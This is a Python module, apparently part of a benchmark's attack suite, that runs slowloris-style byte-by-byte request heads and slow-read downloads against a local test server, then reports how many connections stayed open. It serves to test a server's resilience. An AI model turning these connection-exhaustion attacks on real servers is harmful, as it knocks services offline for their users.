"""Slow connections: request heads sent byte by byte, and readers who stall while downloading files."""

from __future__ import annotations

import contextlib
import socket
import time

from bench.attacks.target import ATTACKER, Target

DRIPPING, DRIP_SECONDS = 1100, 40.0
READERS, READ_SECONDS = 4, 40.0


def dripping(target: Target, count: int = DRIPPING, seconds: float = DRIP_SECONDS) -> str:
    """Open many connections from one address, each sending a byte of a request head now and then."""
    with contextlib.ExitStack() as held:
        opened = [held.enter_context(contextlib.closing(_connect(target))) for _ in range(count)]
        for connection in opened:
            _send(connection, b"GET / HTTP/1.1\r\nHost: a\r\nX: ")
        until, open_at = time.monotonic() + seconds, []
        while time.monotonic() < until:
            alive = sum(_send(connection, b"a") for connection in opened)
            open_at.append(alive)
            time.sleep(min(5.0, seconds / 4))
    return f"of {count} connections {open_at[0]} open at first, {open_at[-1]} after {seconds:.0f} s"


def slow_exports(target: Target, count: int = READERS, seconds: float = READ_SECONDS) -> str:
    """Export the whole collection while reading a byte a second."""
    with contextlib.ExitStack() as held:
        opened = [held.enter_context(contextlib.closing(_connect(target, buffer=4096))) for _ in range(count)]
        for connection in opened:
            _send(connection, b"GET /export.jsonl HTTP/1.1\r\nHost: a\r\n\r\n")
        time.sleep(min(3.0, seconds / 4))
        begun = [_receive(connection, 15).decode("latin-1").partition(" ")[2][:3] or "none" for connection in opened]
        until = time.monotonic() + seconds
        while time.monotonic() < until:
            for connection in opened:
                _receive(connection, 1)
            time.sleep(1)
        cut = sum(_is_cut(connection) for connection in opened)
    return f"{count} readers got {' '.join(begun)}; {cut} cut off within {seconds:.0f} s"


def _connect(target: Target, buffer: int = 0) -> socket.socket:
    connection = socket.socket()
    connection.settimeout(5)
    if buffer:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, buffer)
    connection.bind((ATTACKER, 0))
    with contextlib.suppress(OSError):
        connection.connect(("127.0.0.1", target.port))
        connection.setblocking(False)
    return connection


def _send(connection: socket.socket, data: bytes) -> bool:
    """Send data and return whether the connection still accepts it."""
    try:
        connection.send(data)
    except BlockingIOError:
        return True
    except OSError:
        return False
    return True


def _receive(connection: socket.socket, size: int) -> bytes:
    try:
        return connection.recv(size)
    except OSError:
        return b""


def _is_cut(connection: socket.socket) -> bool:
    """Return whether the other side has closed the connection, after reading everything it sent."""
    until = time.monotonic() + 10
    while time.monotonic() < until:
        try:
            if not connection.recv(1_000_000):
                return True
        except BlockingIOError:
            return False
        except OSError:
            return True
    return False
